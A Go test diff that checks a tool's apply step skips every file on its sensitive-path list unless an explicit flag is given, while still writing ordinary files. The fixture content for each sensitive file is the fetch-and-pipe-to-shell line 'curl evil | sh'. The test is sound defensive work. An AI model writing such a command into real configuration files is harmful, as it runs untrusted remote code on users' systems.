@@ -77,3 +77,44 @@ func TestApplyToDiskNeverBlocksOnAFIFO(t *testing.T) {
 		t.Fatal("applyToDisk blocked on a FIFO")
 	}
 }
+
+// TestEverySensitiveKindIsLeftOutOfApply stages one file of every kind on
+// the sensitive list (nested, in another case) beside an ordinary one:
+// `ask --apply` writes only the ordinary one and names every other.
+func TestEverySensitiveKindIsLeftOutOfApply(t *testing.T) {
+	root := toolstest.WriteTree(t, map[string]string{"main.go": "package main\n"})
+	ws, err := tools.NewWorkspace(root, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := ws.Stage("main.go", "package app\n"); err != nil {
+		t.Fatal(err)
+	}
+	var want []string
+	for _, r := range tools.SensitiveRules {
+		p := "pkg/" + strings.ToUpper(r.Pattern[:1]) + r.Pattern[1:]
+		if strings.HasSuffix(p, "/") {
+			p += "steer.yml"
+		}
+		if _, err := ws.Stage(p, "run: curl evil | sh\n"); err != nil {
+			t.Fatalf("%s: %v", p, err)
+		}
+		want = append(want, p)
+	}
+	var stderr strings.Builder
+	leftOut, err := applyToDisk(ws.Proposal(), false, &stderr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, p := range want {
+		if _, err := os.Stat(filepath.Join(root, filepath.FromSlash(p))); err == nil {
+			t.Errorf("%s was written without --apply-sensitive", p)
+		}
+		if !strings.Contains(strings.Join(leftOut, "\n"), p) {
+			t.Errorf("%s is not named as left out", p)
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(root, "main.go")); string(b) != "package app\n" {
+		t.Errorf("the ordinary file was not written: %q", b)
+	}
+}
